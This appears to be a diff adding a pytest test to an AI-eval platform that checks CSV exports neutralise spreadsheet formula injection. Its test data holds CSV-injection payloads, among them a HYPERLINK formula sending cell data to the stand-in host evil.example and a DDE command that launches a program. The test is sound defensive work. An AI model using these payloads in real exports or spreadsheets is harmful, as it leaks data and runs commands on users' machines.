@@ -327,3 +327,23 @@ def test_an_eval_that_keeps_stalling_ends_error_after_bounded_resumes(project, o
     assert "stopped 4 times in a row" in ev.status_message
     # A person may still try again, and the count starts over.
     assert resume_eval(ev) and Eval.objects.get(pk=ev.pk).auto_resumes == 0
+
+
+@pytest.mark.django_db(transaction=True)
+def test_csv_downloads_neutralise_formulas(api, project, owner, fake, deployment):
+    import csv
+    import io
+
+    from evals.datasets import create_dataset
+
+    payloads = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
+    fake.answer = lambda text: payloads[int(text[1:])]
+    dataset = create_dataset(project, owner, "f", b"".join(b'{"input": "q%d", "expected": "=1+1"}\n' % i for i in range(4)))
+    ev = create_eval(project, owner, deployment=deployment, dataset=dataset, scorers=["exact_match"])
+    run_eval(ev.pk)
+    response = api.get(f"/api/v1/evals/{ev.pk}/samples", {"download": "csv"})
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert sorted(row["output"] for row in rows) == sorted("'" + p for p in payloads)
+    assert {row["reference"] for row in rows} == {"'=1+1"}
+    assert {row["score"] for row in rows} == {"0.0"}  # numbers stay numbers
